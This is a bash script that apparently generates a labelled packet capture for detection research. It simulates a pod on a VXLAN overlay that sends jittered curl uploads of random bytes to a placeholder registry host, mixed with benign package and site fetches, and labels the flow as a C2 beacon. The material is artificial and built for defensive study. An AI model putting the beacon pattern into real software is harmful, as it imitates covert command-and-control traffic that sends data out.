#!/usr/bin/env bash
# A beacon from a pod on a VXLAN overlay (VNI 77), captured on the underlay: every packet of it is wrapped.
UC_HERE=$(cd "$(dirname "$0")" && pwd)
. "$UC_HERE/../lib.sh"
UC_BEGIN=2026-03-21T06:00:00Z
uc_start 560 curl nginx-light
uc_lan 10.244.3.1/24
# The node that carries the pods, and the underlay between it and the gateway.
ip netns add "${UC_PREFIX}node"
uc_in node sysctl -qw net.ipv6.conf.all.disable_ipv6=1
uc_in gw ip link add under0 type veth peer name under1 netns "${UC_PREFIX}node"
uc_in gw ip addr add 10.200.0.1/24 dev under0; uc_in gw ip link set under0 mtu 1600 up
uc_in node ip addr add 10.200.0.11/24 dev under1; uc_in node ip link set under1 mtu 1600 up
uc_in gw ip link add vx0 type vxlan id 77 local 10.200.0.1 remote 10.200.0.11 dstport 4789 dev under0
uc_in node ip link add vx0 type vxlan id 77 local 10.200.0.11 remote 10.200.0.1 dstport 4789 dev under1
uc_in node ip link add br-pod type bridge forward_delay 0 mcast_snooping 0
for ns in gw node; do uc_in $ns ip link set vx0 mtu 1500 up; done
uc_in gw ip link set vx0 master br-lan; uc_in node ip link set vx0 master br-pod; uc_in node ip link set br-pod up
uc_in node ethtool -K under1 tx off >/dev/null 2>&1; uc_in gw ethtool -K under0 tx off >/dev/null 2>&1
UC_SWITCH_NS=node UC_SWITCH="master br-pod"
uc_host pod8 10.244.3.8
uc_host pod9 10.244.3.9
uc_browse_sites
uc_site registry.layerdepot.example 203.0.113.222
uc_site packages.distromirror.example 198.51.100.60
UC_SNAP=800 UC_CAPTURE_DEVICE=under0
uc_up

uc_plan <<'PY'
from plan import Plan
plan = Plan(seed=77)
end = 3 * 3600
def check_in(number):
    remembered = "" if number % 3 == 0 else "--resolve registry.layerdepot.example:443:203.0.113.222 "
    return (f"head -c {300 if number % 13 else 2400} /dev/urandom | curl -s -o /dev/null --cacert $UC_CA {remembered}"
            f"--data-binary @- https://registry.layerdepot.example/task-{number % 12}")
plan.every("10.244.3.8", 33, end, 75, 0.25, check_in)
for name in ("8", "9"):   # What services do: call interfaces of others at no fixed pace, fetch packages.
    at = 100.0
    while at < end:
        plan.add(at, "10.244.3." + name, f"curl -s -o /dev/null --cacert $UC_CA https://git.forgeyard.example/part-{plan.rng.randrange(60)}.bin https://docs.teamfolio.example/part-{plan.rng.randrange(60)}.bin")
        at += plan.rng.expovariate(1 / 240)
    plan.add(4000, "10.244.3." + name, "curl -s -o /dev/null --cacert $UC_CA https://packages.distromirror.example/file.bin")
plan.write()
PY
uc_drive
uc_finish "$(uc_versions curl nginx-light dnsmasq-base tcpdump)" --bulk-bytes 132 <<'LABELS'
10.244.3.8 203.0.113.222:443 c2 beacon
LABELS
